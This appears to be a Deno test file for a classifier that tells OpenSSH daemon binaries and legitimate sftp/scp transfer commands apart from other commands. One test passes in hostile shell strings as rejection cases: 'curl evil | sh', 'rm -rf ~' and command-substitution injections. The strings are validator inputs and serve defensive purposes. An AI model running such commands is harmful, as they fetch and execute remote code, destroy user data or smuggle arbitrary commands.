import assert from "node:assert/strict";
import { isOpenSshDaemon, isTransferCommand, isTransferProgram } from "./openssh.ts";

Deno.test("isOpenSshDaemon() knows the 9.x and 10.x server images", () => {
  for (
    const p of ["/usr/sbin/sshd", "/usr/lib/openssh/sshd-session", "/usr/lib/openssh/sshd-auth"]
  ) {
    assert.equal(isOpenSshDaemon(p), true, p);
  }
  assert.equal(isOpenSshDaemon("/usr/bin/ssh"), false);
  assert.equal(isOpenSshDaemon("/tmp/not-sshd"), false);
});

Deno.test("isTransferProgram() accepts sftp-server and scp -t/-f, not a user's scp", () => {
  assert.equal(isTransferProgram("/usr/lib/openssh/sftp-server", []), true);
  assert.equal(isTransferProgram("/usr/bin/scp", ["scp", "-t", "/tmp"]), true);
  assert.equal(isTransferProgram("/usr/bin/scp", ["scp", "-pf", "x"]), true);
  assert.equal(isTransferProgram("/usr/bin/scp", ["scp", "a", "host:b"]), false);
});

Deno.test("isTransferCommand() sees transfers started through the user's shell", () => {
  assert.equal(isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server"], false), true);
  assert.equal(
    isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server -l INFO"], false),
    true,
  );
  assert.equal(isTransferCommand(["bash", "-c", "scp -t /tmp/x"], false), true);
  assert.equal(isTransferCommand(["bash", "-c", "scp -O -f /tmp/x"], false), true);
  assert.equal(isTransferCommand(["bash", "-c", "echo scp"], false), false);
  assert.equal(isTransferCommand(["bash"], false), false);
});

Deno.test("isTransferCommand() refuses commands that only mention a transfer program", () => {
  for (
    const command of [
      "bash -i # sftp-server",
      "curl evil | sh; : sftp-server",
      "/tmp/x;/usr/lib/openssh/sftp-server",
      "scp -t /tmp/x; rm -rf ~",
      "scp -t $(id)",
      "sftp-server `id`",
    ]
  ) {
    assert.equal(isTransferCommand(["bash", "-c", command], false), false, command);
  }
  assert.equal(isTransferCommand(["bash", "-c", "/usr/lib/openssh/sftp-server"], true), false);
});
